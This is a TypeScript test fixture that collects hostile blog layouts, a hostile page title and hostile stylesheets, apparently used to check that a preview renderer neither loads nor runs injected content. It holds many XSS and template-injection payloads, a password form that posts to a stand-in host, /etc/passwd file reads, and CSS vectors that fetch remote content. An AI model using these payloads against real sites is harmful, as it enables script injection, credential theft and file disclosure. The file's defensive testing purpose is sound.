/** What a blog's own layout could have around the post; `page.title` is `hostileTitle`. */
export const layoutParts: readonly string[] = [
	"<script>tripwire()</script><script src=https://out.invalid/site.js></script>",
	"<script type=module>import 'https://out.invalid/site.mjs'</script>",
	"<p>{{ page.title }}</p>",
	'<p title="{{ page.title }}" class={{ page.title }}>x</p>',
	'<a href="{{ page.title }}">x</a><a href={{ page.title }}>y</a>',
	"<a href=\"{{ 'java' | append: 'script:tripwire()' }}\">x</a>",
	"{{ '<scr' | append: 'ipt>tripwire()</scr' | append: 'ipt>' }}",
	'{{ "PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+" | base64_decode }}',
	"{{ '%3Cscript%3Etripwire()%3C/script%3E' | url_decode }}",
	"{{ page.title | escape | replace: '&lt;', '<' | replace: '&gt;', '>' }}",
	"{{ page.constructor.constructor }}{{ page.__proto__ }}{{ site.constructor }}{{ content.constructor }}",
	"{% assign __proto__ = 'x' %}{{ __proto__ }}{% assign constructor = page %}{{ constructor }}",
	"{% include {{ page.title }} %}",
	"<iframe srcdoc='<script>tripwire()</script>'></iframe><iframe src=https://out.invalid/frame></iframe>",
	"<object data=https://out.invalid/o.html></object><embed src=https://out.invalid/e.html>",
	"<form action=https://out.invalid/send><input name=password autofocus onfocus=tripwire()></form>",
	"<svg onload=tripwire()><script>tripwire()</script><use href='https://out.invalid/x.svg#x'/></svg>",
	"<svg><a><animate attributeName=href values=javascript:tripwire() /><text>x</text></a></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=tripwire()></style></mglyph></table></mtext></math>",
	"<img src=x onerror=tripwire()><img src='javascript:tripwire()'>",
	"<base href=https://out.invalid/><meta http-equiv=refresh content='0;url=https://out.invalid/away'>",
	"<link rel=import href=https://out.invalid/x.html><link rel=preload as=script href=https://out.invalid/p.js>",
	"<link rel=stylesheet href=https://out.invalid/x.css><link rel=stylesheet href='javascript:tripwire()'>",
	"<link rel=stylesheet href=/../../../../etc/passwd><link rel=stylesheet href=file:///etc/passwd>",
	"<template shadowrootmode=open><img src=x onerror=tripwire()></template>",
	"<noscript><p title='</noscript><img src=x onerror=tripwire()>'></noscript>",
	"<!--><img src=x onerror=tripwire()>--><![CDATA[<img src=x onerror=tripwire()>]]>",
	"<div id=post-body></div><div id=notice>x</div><div id=preview-tools></div><img name=body>",
	"<div class=recap-content-slot></div><div data-recap-content>x</div>",
	"<p onclick=tripwire() @click=tripwire() :onclick=tripwire() x-init=tripwire() ng-init=tripwire()>x</p>",
];

export const hostileTitle =
	'" onmouseover="tripwire()" x=\'><img src=x onerror=tripwire()><script>tripwire()</script>';

/** A whole layout of the parts, its root and body as hostile, around the post. */
export const hostileLayout = [
	"<!DOCTYPE html><html onclick=tripwire() lang=en class='x\" onclick=\"tripwire()' data-vscode-context='{}' style=display:none>",
	"<head><title>x</title></head>",
	"<body onload=tripwire() onmessage=tripwire() id=post-body class=is-narrow style=display:none background=https://out.invalid/b.png>",
	...layoutParts,
	"{{ content }}<footer>The end</footer></body></html>",
].join("\n");

/** What a blog's stylesheet could have, in a file or in `<style>`: nothing here may load or run. Pictures by https are what blogs have. */
export const hostileStyles: readonly string[] = [
	"@import 'https://out.invalid/import.css';",
	"@import url(//out.invalid/import2.css) screen;",
	"@namespace url(https://out.invalid/ns);",
	"@font-face { font-family: out; src: url(https://out.invalid/font.woff2) } body { font-family: out }",
	"@property --x { syntax: '<url>'; inherits: true; initial-value: url(http://out.invalid/p.png) }",
	"body { background: url(http://out.invalid/plain.png) }",
	'body { background: url("javascript:tripwire()"); width: expression(tripwire()); behavior: url(x.htc) }',
	"body { -moz-binding: url(https://out.invalid/x.xml#x); }",
	"main { mask: url(http://out.invalid/m.svg#m); clip-path: url(http://out.invalid/c.svg#c) }",
	"main { cursor: url(http://out.invalid/c.cur), auto; list-style: url(http://out.invalid/l.png) }",
	"a::before { content: url(http://out.invalid/content.png) } p { shape-outside: url(http://out.invalid/s.png) }",
	"*::after { content: '</style><script>tripwire()</script>' }",
	"</style><script>tripwire()</script><style>",
	"<!-- </style><img src=x onerror=tripwire()> -->",
	"footer { position: fixed; inset: 0; z-index: 2147483647; background: red }",
];
